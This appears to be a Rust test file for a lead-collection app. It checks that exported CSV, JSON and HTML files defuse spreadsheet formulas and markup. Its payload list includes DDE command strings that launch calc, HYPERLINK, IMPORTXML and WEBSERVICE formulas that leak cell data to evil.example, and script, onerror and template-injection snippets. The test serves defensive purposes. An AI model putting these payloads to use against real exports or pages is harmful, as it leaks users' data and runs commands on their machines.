//! Whatever people type, and whatever stands in a list: no spreadsheet runs it. The strings go into every field of a form,
//! by the form and by an import, and every export is read back by a reader of others and judged by OWASP's rule:
//! <https://owasp.org/www-community/attacks/CSV_Injection>.

use std::{fs, path::Path, process::Command};

use candor_collector::clock::{Clock, SystemClock};
use http::{Method, Request, StatusCode, header};
use serde_json::{Value, json};

use crate::support::{TestApp, sign};

/// Formulas, commands, markup, direction marks, blanks and quotes before them, and separators of other countries.
const HOSTILE: [&str; 44] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   \u{a0}=1+1",
    "\"=1+1",
    "\"\"=1+1",
    "\",=1+1,\"",
    "',=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=HYPERLINK(\"https://evil.example?leak=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
    "=WEBSERVICE(\"https://evil.example\")",
    "x;=1+1",
    "x; =1+1",
    "x\t=1+1",
    "x\n=1+1",
    "x\r\n=1+1;-1",
    ";=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\u{202e}=1+1",
    "\u{2066}=1+1\u{2069}",
    "\0=1+1",
    "<script>globalThis.ran=1</script>",
    "<img src=x onerror=globalThis.ran=1>",
    "\"><svg onload=globalThis.ran=1>",
    "javascript:globalThis.ran=1",
    "{{constructor.constructor('globalThis.ran=1')()}}",
    "</title><script>globalThis.ran=1</script>",
    "<!--",
    "]]>",
    "%0A=1+1",
];

/// What the form wants of whoever fills it in.
const GOOD: [(&str, &str); 12] = [
    ("full_name", "Ada"),
    ("family", "Byron"),
    ("company", "Engines"),
    ("job", "Countess"),
    ("land", "FR"),
    ("zip", "75001"),
    ("site", "https://ada.example"),
    ("note", "Hello"),
    ("short", "A-1"),
    ("size", "small"),
    ("topic", "law"),
    ("campaign", "autumn"),
];

const FORM: &str = include_str!("../../../../tests/e2e/forms/all-fields.json");

async fn start() -> TestApp {
    let app = TestApp::start_with(|config| {
        let forms = config.forms.clone().expect("a folder");
        fs::write(forms.join("all-fields.json"), FORM).expect("written");
    })
    .await;
    // The commands that export have the system's clock.
    app.clock.set(SystemClock.now());
    app
}

/// One submission for each string in each field; how many were taken.
async fn type_everything(app: &TestApp) -> usize {
    let compiled = app.compiled("all-fields", "en").await;
    let form = &compiled["record"]["form"];
    let said = |name: &str| form[name].as_str().expect("a text").to_owned();
    let (version, texts) = (said("version"), said("texts"));
    let own = [
        ("candor-version", version.as_str()),
        ("candor-texts", texts.as_str()),
        ("candor-language", "en"),
    ];
    let mut taken = 0;
    for (number, hostile) in HOSTILE.iter().enumerate() {
        for at in 0..=GOOD.len() {
            let mut address = format!("h{number}-{at}@example.org");
            let mut members: Vec<(&str, &str)> = GOOD.to_vec();
            match members.get_mut(at) {
                Some(member) => member.1 = hostile,
                None => address = (*hostile).to_owned(),
            }
            members.push(("mail", &address));
            members.extend(own);
            let answer = app.post_form("/f/all-fields", &members).await;
            match answer.status {
                StatusCode::SEE_OTHER => taken += 1,
                StatusCode::UNPROCESSABLE_ENTITY => {}
                status => panic!("{status} for {hostile:?} in {at}"),
            }
        }
    }
    taken
}

/// The same as a list, with a mapping that proves the form's words; the report as CSV.
async fn import_everything(app: &TestApp) -> String {
    let compiled = app.compiled("all-fields", "en").await;
    let texts = compiled["texts"].as_array().expect("texts").iter();
    let texts: serde_json::Map<String, Value> = texts
        .map(|text| (text["ref"].as_str().expect("a ref").to_owned(), text["text"].clone()))
        .collect();
    let now = app.clock.now();
    let mapping = json!({
        "format": "candor-import/1", "language": "en", "source": "=1+1", "acted": {"column": "when"},
        "purposes": {"sheet": {}, "similar": {"column": "similar"}},
        "shown": [{"source": "=1+1", "from": "2000-01-01", "until": "2100-01-01",
            "policyUrl": compiled["record"]["policy"]["url"], "texts": texts}],
    });
    let mut list = csv::WriterBuilder::new().from_writer(Vec::new());
    let names = GOOD.iter().map(|(name, _)| *name).chain(["mail", "when", "similar"]);
    list.write_record(names).expect("written");
    for (number, hostile) in HOSTILE.iter().enumerate() {
        for at in 0..=GOOD.len() + 2 {
            let mut cells: Vec<String> = GOOD.iter().map(|(_, value)| (*value).to_owned()).collect();
            cells.extend([
                format!("i{number}-{at}@example.org"),
                format!("{now:.0}"),
                "no".to_owned(),
            ]);
            cells[at] = (*hostile).to_owned();
            list.write_record(&cells).expect("written");
        }
    }
    let folder = app.folder.path();
    fs::write(folder.join("leads.csv"), list.into_inner().expect("written")).expect("written");
    fs::write(folder.join("mapping.json"), mapping.to_string()).expect("written");
    let form = [
        "import",
        "--form",
        "all-fields",
        "--format",
        "csv",
        "--mapping",
        "mapping.json",
        "--report",
        "csv",
    ];
    candor(folder, &[&form[..], &["leads.csv"]].concat(), 1)
}

fn candor(folder: &Path, arguments: &[&str], code: i32) -> String {
    let output = Command::new(env!("CARGO_BIN_EXE_candor"))
        .current_dir(folder)
        .args(arguments)
        .args(["--data", "data"])
        .output()
        .expect("run");
    let err = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(code), "{arguments:?}: {err}");
    assert!(
        !err.contains("globalThis") && !err.contains("1+1"),
        "{arguments:?}: {err}"
    );
    String::from_utf8(output.stdout).expect("UTF-8")
}

/// OWASP's rule, for whatever a program takes to be a cell: behind blanks, quotation marks and what shows nothing.
fn is_live(cell: &str) -> bool {
    let text = cell.trim_start_matches(|c: char| {
        c.is_whitespace() || c.is_control() || matches!(c, '"' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
    });
    text.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) || cell.starts_with(['\t', '\r'])
}

/// How many cells there are; none of them lives, whatever a spreadsheet takes for its separator.
fn check_cells(name: &str, text: &str) -> usize {
    let mut counted = 0;
    for delimiter in *b",;\t" {
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(delimiter)
            .has_headers(false)
            .flexible(true)
            .from_reader(text.as_bytes());
        for record in reader.records() {
            for cell in record.expect("a record").iter() {
                assert!(!is_live(cell), "{name}, cut at {:?}: {cell:?}", char::from(delimiter));
                counted += usize::from(delimiter == b',');
            }
        }
    }
    counted
}

#[tokio::test]
async fn no_cell_of_any_export_lives() {
    let app = start().await;
    let typed = type_everything(&app).await;
    let report = import_everything(&app).await;
    // Names, notes and the like take nearly anything; addresses, countries and choices take none of it.
    assert!(typed > 100, "{typed}");
    let imported = report.lines().filter(|line| line.contains(",taken,")).count();
    assert!(imported > 100, "{imported}\n{report}");
    assert!(report.contains(",refused,"), "{report}");
    assert!(
        !report.contains("globalThis") && !report.contains("1+1"),
        "a report repeats no value"
    );
    check_cells("the import's report", &report);

    let folder = app.folder.path();
    let day = app.clock.now().strftime("%Y-%m-%d").to_string();
    let leads = candor(folder, &["export", "leads", "--purpose", "sheet"], 0);
    assert!(
        check_cells("leads", &leads) > 10 * (typed + imported),
        "they are all there"
    );
    assert!(
        leads.contains("HYPERLINK") && leads.contains("onerror"),
        "and so are the strings"
    );
    let period = ["--from", "2000-01-01", "--to", day.as_str()];
    for arguments in [
        &["export", "leads", "--purpose", "similar"][..],
        &["export", "reconsent", "--form", "all-fields", "--format", "csv"],
        &["export", "register", "--format", "csv"],
        &[&["export", "breach", "--format", "csv"], &period[..]].concat(),
    ] {
        let text = candor(folder, arguments, 0);
        assert!(check_cells(&arguments.join(" "), &text) > 0, "{arguments:?}");
    }
    // What is no list for a spreadsheet is JSON, or a page in which nothing is markup.
    for arguments in [
        &["export", "leads", "--purpose", "sheet", "--format", "json"][..],
        &["export", "records"],
        &["export", "deletions"],
        &["export", "requests"],
        &["export", "register"],
        &[&["export", "breach"], &period[..]].concat(),
    ] {
        let text = candor(folder, arguments, 0);
        serde_json::from_str::<Value>(&text).unwrap_or_else(|error| panic!("{arguments:?}: {error}"));
    }
    for arguments in [
        &["export", "register", "--format", "html"][..],
        &[&["export", "breach", "--format", "html"], &period[..]].concat(),
    ] {
        let page = candor(folder, arguments, 0);
        for markup in ["<script>", "<img src=x", "<svg onload"] {
            assert!(!page.contains(markup), "{arguments:?}: {markup}");
        }
    }
}

#[tokio::test]
async fn what_is_no_text_is_refused() {
    let app = start().await;
    let compiled = app.compiled("all-fields", "en").await;
    let envelope = sign(&compiled["record"]).to_string();
    for disclosure in ["\\ud800=1", "\\udfff", "a\\ud800b"] {
        let body = format!("{{\"record\": {envelope}, \"disclosures\": [\"{disclosure}\"]}}");
        let request = Request::builder().method(Method::POST).uri("/v1/submissions");
        let request = request.header(header::CONTENT_TYPE, "application/json");
        let answer = app.send(request.body(body.into()).expect("a request")).await;
        assert_eq!(
            answer.status,
            StatusCode::BAD_REQUEST,
            "{disclosure}: {}",
            answer.text()
        );
    }
    let long = "=".repeat(5_000);
    let mut members = GOOD.to_vec();
    members[7].1 = &long;
    assert_eq!(
        app.post_form("/f/all-fields", &members).await.status,
        StatusCode::UNPROCESSABLE_ENTITY
    );

    let folder = app.folder.path();
    let lead = r#"{"id":"1","created_time":"2026-01-01T00:00:00+0000","field_data":[{"name":"full_name","values":["\ud800=1+1"]}]}"#;
    fs::write(folder.join("leads.json"), lead).expect("written");
    candor(
        folder,
        &["import", "--form", "all-fields", "--format", "meta", "leads.json"],
        2,
    );
    assert_eq!(app.count("leads").await, 0);
}
